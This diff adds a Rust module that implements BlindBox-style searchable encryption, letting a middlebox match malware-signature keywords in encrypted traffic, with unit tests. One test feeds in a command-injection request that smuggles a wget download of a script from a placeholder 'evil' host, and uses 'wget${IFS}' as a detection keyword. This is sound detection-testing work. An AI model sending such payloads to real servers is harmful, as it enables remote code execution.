@@ -1,0 +1,183 @@
+//! BlindBox-style tokenized searchable encryption.
+//!
+//! The paper's network-layer design (§IV-B2) proposes matching
+//! malware-signature keywords inside encrypted traffic *without* breaking
+//! end-to-end encryption, "similar to BlindBox" [Sherry et al., SIGCOMM'15].
+//! This module implements the core of that scheme:
+//!
+//! 1. The sender encrypts the payload normally (out of scope here) and
+//!    additionally emits **tokens**: a PRF under a session token key of
+//!    every sliding window of the plaintext.
+//! 2. The middlebox holds rule tokens — the same PRF applied to each rule
+//!    keyword (computed by the rule authority with the token key) — and
+//!    matches them against traffic tokens with no access to the plaintext.
+//!
+//! Windows are fixed-size ([`TOKEN_WINDOW`]) so token streams leak only
+//! payload length, not content (up to PRF security).
+
+use crate::ciphers::Speck128;
+use crate::kdf::derive_key;
+use crate::mac::prf;
+use crate::CryptoError;
+
+/// Sliding-window width in bytes for tokenization (BlindBox uses 8).
+pub const TOKEN_WINDOW: usize = 8;
+
+/// Number of PRF output bytes kept per token.
+pub const TOKEN_SIZE: usize = 8;
+
+/// An encrypted inspection token: the PRF image of one plaintext window.
+pub type Token = [u8; TOKEN_SIZE];
+
+/// Per-session tokenizer shared (via the XLF Core key exchange) between
+/// the endpoint and the inspecting middlebox rule authority.
+///
+/// # Example
+///
+/// ```
+/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
+/// use xlf_lwcrypto::searchable::Tokenizer;
+///
+/// let sender = Tokenizer::new(b"session secret")?;
+/// let middlebox = Tokenizer::new(b"session secret")?;
+///
+/// let traffic = sender.tokenize(b"GET /bot.sh HTTP/1.1");
+/// let rule = middlebox.rule_token(b"/bot.sh ");
+/// assert!(traffic.contains(&rule));
+/// # Ok(())
+/// # }
+/// ```
+#[derive(Debug)]
+pub struct Tokenizer {
+    cipher: Speck128,
+}
+
+impl Tokenizer {
+    /// Derives the token key from a session secret and builds the
+    /// tokenizer.
+    ///
+    /// # Errors
+    ///
+    /// Returns [`CryptoError::InvalidParameter`] if the secret is empty.
+    pub fn new(session_secret: &[u8]) -> Result<Self, CryptoError> {
+        let key = derive_key(session_secret, "xlf-searchable-token", 16)?;
+        Ok(Tokenizer {
+            cipher: Speck128::new(&key).expect("16-byte derived key"),
+        })
+    }
+
+    fn window_token(&self, window: &[u8]) -> Token {
+        let out = prf(&self.cipher, "blindbox-token", window).expect("PRF over small input");
+        let mut token = [0u8; TOKEN_SIZE];
+        token.copy_from_slice(&out[..TOKEN_SIZE]);
+        token
+    }
+
+    /// Produces the token stream for an outgoing payload: one token per
+    /// sliding window (stride 1). Payloads shorter than the window emit a
+    /// single zero-padded token.
+    pub fn tokenize(&self, payload: &[u8]) -> Vec<Token> {
+        if payload.len() < TOKEN_WINDOW {
+            let mut padded = payload.to_vec();
+            padded.resize(TOKEN_WINDOW, 0);
+            return vec![self.window_token(&padded)];
+        }
+        payload
+            .windows(TOKEN_WINDOW)
+            .map(|w| self.window_token(w))
+            .collect()
+    }
+
+    /// Produces the token for a rule keyword. Keywords shorter than the
+    /// window are zero-padded (and will then only match padded short
+    /// payloads); longer keywords use their first window — callers should
+    /// split long keywords into windows via [`Tokenizer::rule_tokens`].
+    pub fn rule_token(&self, keyword: &[u8]) -> Token {
+        let mut w = keyword.to_vec();
+        w.resize(TOKEN_WINDOW.max(w.len()), 0);
+        self.window_token(&w[..TOKEN_WINDOW])
+    }
+
+    /// Splits a long keyword into consecutive window tokens (stride 1), so
+    /// a match requires the full keyword to appear contiguously.
+    pub fn rule_tokens(&self, keyword: &[u8]) -> Vec<Token> {
+        self.tokenize(keyword)
+    }
+}
+
+/// Matches rule tokens against a traffic token stream: returns the indices
+/// where the full rule-token sequence occurs contiguously.
+pub fn match_rule(traffic: &[Token], rule: &[Token]) -> Vec<usize> {
+    if rule.is_empty() || rule.len() > traffic.len() {
+        return Vec::new();
+    }
+    traffic
+        .windows(rule.len())
+        .enumerate()
+        .filter(|(_, w)| *w == rule)
+        .map(|(i, _)| i)
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn matching_without_plaintext() {
+        let t = Tokenizer::new(b"shared session key").unwrap();
+        let traffic = t.tokenize(b"POST /cgi-bin/;wget${IFS}http://evil/x.sh HTTP/1.0");
+        let rule = t.rule_tokens(b"wget${IFS}");
+        assert!(!match_rule(&traffic, &rule).is_empty());
+    }
+
+    #[test]
+    fn clean_traffic_does_not_match() {
+        let t = Tokenizer::new(b"shared session key").unwrap();
+        let traffic = t.tokenize(b"GET /weather/today?zip=44106 HTTP/1.1");
+        let rule = t.rule_tokens(b"wget${IFS}");
+        assert!(match_rule(&traffic, &rule).is_empty());
+    }
+
+    #[test]
+    fn different_sessions_produce_unlinkable_tokens() {
+        let a = Tokenizer::new(b"session A").unwrap();
+        let b = Tokenizer::new(b"session B").unwrap();
+        assert_ne!(a.tokenize(b"identical"), b.tokenize(b"identical"));
+    }
+
+    #[test]
+    fn match_positions_are_correct() {
+        let t = Tokenizer::new(b"k").unwrap();
+        let payload = b"xxxxNEEDLE01yyyyNEEDLE01";
+        let traffic = t.tokenize(payload);
+        let rule = t.rule_tokens(b"NEEDLE01");
+        assert_eq!(match_rule(&traffic, &rule), vec![4, 16]);
+    }
+
+    #[test]
+    fn short_payload_and_keyword_roundtrip() {
+        let t = Tokenizer::new(b"k").unwrap();
+        let traffic = t.tokenize(b"hi");
+        let rule = t.rule_token(b"hi");
+        assert_eq!(traffic, vec![rule]);
+    }
+
+    #[test]
+    fn empty_rule_never_matches() {
+        let t = Tokenizer::new(b"k").unwrap();
+        let traffic = t.tokenize(b"whatever payload");
+        assert!(match_rule(&traffic, &[]).is_empty());
+    }
+
+    #[test]
+    fn tokens_do_not_reveal_plaintext_bytes() {
+        let t = Tokenizer::new(b"k").unwrap();
+        let tokens = t.tokenize(b"AAAAAAAAAAAAAAAA");
+        // All windows identical → all tokens identical (expected leak), but
+        // the token bytes must not equal the plaintext bytes.
+        for token in &tokens {
+            assert_ne!(&token[..], b"AAAAAAAA");
+        }
+    }
+}
